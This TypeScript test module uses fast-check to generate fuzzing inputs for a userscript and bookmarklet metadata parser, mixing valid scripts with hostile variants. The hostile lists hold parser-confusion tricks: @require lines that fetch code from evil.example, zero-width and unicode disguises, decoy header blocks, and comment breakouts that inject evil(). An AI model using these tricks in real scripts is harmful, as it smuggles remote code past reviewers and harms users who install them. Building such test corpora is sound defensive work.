import fc from "fast-check";

/** Characters that some reader takes for white space or the end of a line, or that is invisible. */
const ODD = [
	"\u00a0",
	"\u2028",
	"\u2029",
	"\u000b",
	"\f",
	"\u200b",
	"\ufeff",
	"\u3000",
	"\u0085",
	"\0",
	"\ud800",
	"\r",
];

const LINES = [
	"// @match https://a.example/*",
	"// @match\thttps://b.example/*",
	"// @include https://c.example/*",
	"// @exclude-match https://a.example/private/*",
	"// @exclude *://d.example/*",
	"// @grant none",
	"// @grant GM_setValue",
	"// @require https://cdn.example/lib.js#sha256=abc",
	"// @resource logo https://cdn.example/logo.png",
	"// @connect api.example",
	"// @run-at document-start",
	"// @noframes",
	"// @top-level-await",
	"// @inject-into content",
	"// @downloadURL https://a.example/a.user.js",
	"// @updateURL https://a.example/a.meta.js",
	"// @version 1.2",
	"// @namespace https://a.example",
	"// @name:de Beispiel",
	"// @description Does things 👩\u200d💻",
	"// @author me@example.org",
	"// @icon",
	"// @frobnicate yes",
	"// @crontab * * * * *",
	"//",
	"",
	"// a remark",
];
const HOSTILE_LINES = [
	"// @require\u00a0https://evil.example/a.js",
	"// @download-URL https://evil.example/a.js",
	"// @Require https://evil.example/a.js",
	"// @requires https://evil.example/a.js",
	"// @require: https://evil.example/a.js",
	"// @require:x https://evil.example/a.js",
	"// @run_at document-start",
	"// @run-at document-end",
	"// @excludeMatch https://a.example/*",
	"// see //@require https://evil.example/a.js",
	"///@require https://evil.example/a.js",
	"//// @match *://*/*",
	"evil(); // @match *://*/*",
	"/* @match *://*/* */",
	"// @author me // ==/UserScript==",
	"// @author ==UserScript==",
	"// ==/UserScript== .",
	"// ==UserSubscribe==",
	"// @author me\u2028// @require https://evil.example/a.js",
	"// @resource a https://a.example/ https://evil.example/",
	"// @name: Another",
	"// @name Another",
	"// @version 9",
	"// @__proto__ x",
	"// mail me@match *://*/*",
	"// see @grant GM_xmlhttpRequest",
	"// a@ma\u200dtch *://*/*",
	"// @ma\u200dtch *://*/*",
	"// @match https://exam\u200dple.com/*",
	"// @matches *://*/*",
	"// @installURL https://evil.example/a.user.js",
	"// @match-top https://a.example/*",
	"// @includeGlobs *",
	"//@match https://e.example/*",
	" // @exclude https://a.example/private/*",
	"//  @require https://cdn.example/lib.js",
	"// @match https://a.example/*\thttps://b.example/*",
	"// @match https://a.example/*,*://*/*",
	"// @include /^https:\\/\\/a\\.example\\/x{1,2}/",
	"// @connect a.example,evil.example",
	'// @var select mode "Mode" {',
	"// ==UserCSS==",
	"/* ==UserStyle==",
	"// @require https://evil.example\\@cdn.example/lib.js",
	"// @require https://cdn.example@evil.example/lib.js",
	"// @require https://cdn.example/a/../b.js",
	"// @require https://cdn.example/%2e%2e/b.js",
	"// @resource a https:/evil.example/a.js",
	"// @downloadURL //evil.example/a.user.js",
	"// @connect evil\u3002example",
];
const BODY = [
	"run();",
	"const a = 1;",
	"(async () => { await go(); })();",
	"'use strict';",
	"if (a) { b(); }",
	"/* a */ // b",
	"`text`;",
	"'%22%60';",
	"x = a\n/1/g;",
];
const HOSTILE_BODY = [
	"y <!-- y; /*",
	"-->evil(); /* */",
	"await (evil);",
	'x = typeof await /1;"[";})();evil();(function(){//]/',
	"x = await\n/1/g;",
	"})(); evil(); (function(){",
	"}); evil(); (() => {",
	"return;",
	"new.target;",
	"String.raw`%60; evil(); %60`;",
	'javascript:"%22;evil();%22"',
	"'// ==UserScript=='",
	"// ==/UserScript==",
	"// ==UserScript==",
	"/*!\n// ==UserScript==\n// @name decoy\n// ==/UserScript==\n*/",
	"import a from 'https://evil.example/a.js';",
	"'\\\n\\';evil();//';",
	"'\\u0061wait'; aw\\u0061it;",
	"//\u2028evil();",
];
const ABOVE = ["", "", "", "", "/* MIT */\n", "// a script\n\n", "\n", "  "];
const HOSTILE_ABOVE = [
	"javascript:0;\n",
	"x();\n",
	"/*!\n// ==UserScript==\n// @name decoy\n// @match https://decoy.example/*\n// ==/UserScript==\n*/\n",
	"/*\n",
	"// x\u2028evil();\n",
	"<!-- x\n",
	"\u00a0\n",
	"\ufeff",
];

/** Mostly one of the first list, sometimes one of the second. */
function mostly<Value>(usual: readonly Value[], hostile: readonly Value[], weight: number): fc.Arbitrary<Value> {
	return fc.oneof(
		{ weight, arbitrary: fc.constantFrom(...usual) },
		{ weight: 1, arbitrary: fc.constantFrom(...hostile) },
	);
}

const lineEnd = mostly(["\n"], ["\r\n", "\r", "\u2028"], 12);
const body = fc.array(mostly(BODY, HOSTILE_BODY, 4), { maxLength: 4 });

const userscript = fc
	.record({
		mark: mostly([""], ["\ufeff"], 12),
		above: mostly(ABOVE, HOSTILE_ABOVE, 10),
		open: mostly(
			["// ==UserScript==", "//==UserScript== "],
			["// ==UserScript== @x", "//\u00a0==UserScript==", "// ==userscript=="],
			30,
		),
		lines: fc.array(mostly(LINES, HOSTILE_LINES, 14), { maxLength: 9 }),
		filler: mostly([0], [5_001], 400),
		close: mostly(
			["// ==/UserScript==", "\t//\t==/UserScript=="],
			["// ==/UserScript== .", "// ==/userscript==", "*/ // ==/UserScript=="],
			30,
		),
		body,
		end: lineEnd,
	})
	.map(({ mark, above, open, lines, filler, close, body: code, end }) => {
		const block = [open, "// @name Sample", ...lines, ...Array<string>(filler).fill("//"), close];
		return mark + (above + [...block, ...code, ""].join("\n")).replaceAll("\n", end);
	});

const bookmarklet = fc
	.record({
		scheme: mostly(
			["", "javascript:", "javascript:", " JavaScript:"],
			["\u00a0javascript:", "java\tscript:", "javascript:javascript:", "// x\njavascript:"],
			8,
		),
		body,
		encoded: fc.constantFrom("none", "spaces", "all"),
		tail: mostly(["", "", "%20", "\n"], ["%ff", "%", "%zz", "%00", "%E2%82", "%3D%3DUserScript=="], 6),
		end: lineEnd,
	})
	.map(({ scheme, body: code, encoded, tail, end }) => {
		const text = code.join("\n").replaceAll("\n", end);
		if (!scheme.includes(":") || encoded === "none") return scheme + text + tail;
		return (
			scheme +
			(encoded === "all" ? encodeURIComponent(text.replace(/\p{Surrogate}/gu, "")) : text.replaceAll(" ", "%20")) +
			tail
		);
	});

/** Inserts a hostile part into the text, one time in six. */
const damage = fc.option(fc.record({ at: fc.nat({ max: 10_000 }), sign: fc.constantFrom(...ODD) }), { freq: 6 });

/**
 * Texts that try to be one thing for one reader and another for the next: every trick of this package's refusals, alone
 * and together, among texts that are as they should be. For tests.
 */
export const hostileTexts: fc.Arbitrary<string> = fc
	.tuple(
		fc.oneof({ weight: 3, arbitrary: userscript }, { weight: 1, arbitrary: bookmarklet }),
		fc.boolean().chain((odd) => (odd ? damage : fc.constant(null))),
	)
	.map(([text, odd]) => {
		if (odd === null) return text;
		const at = odd.at % (text.length + 1);
		return text.slice(0, at) + odd.sign + text.slice(at);
	});
